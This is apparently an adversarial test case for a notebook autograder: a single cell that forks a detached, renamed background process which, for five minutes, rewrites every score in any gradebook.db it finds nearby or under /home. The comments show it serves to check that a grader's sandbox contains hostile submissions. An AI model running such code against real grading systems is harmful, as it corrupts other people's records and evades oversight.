# tries: a daemon that gives everybody other points in the gradebook, later
# must: no point; graded
# %% cell after setup
import glob
import os
import pathlib
import sqlite3
import time


def books():
    return {os.path.abspath(f"{'../' * depth}gradebook.db") for depth in range(8)} | set(
        glob.glob("/home/*/*/gradebook.db")
    )


if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        pathlib.Path("/proc/self/comm").write_text("hostile-book")
        until = time.monotonic() + 300
        while time.monotonic() < until:
            for path in filter(os.path.exists, books()):
                try:
                    with sqlite3.connect(path) as book:
                        book.execute("update grade set auto_score = 1, manual_score = 1")
                except sqlite3.Error:
                    pass
            time.sleep(0.2)
    os._exit(0)
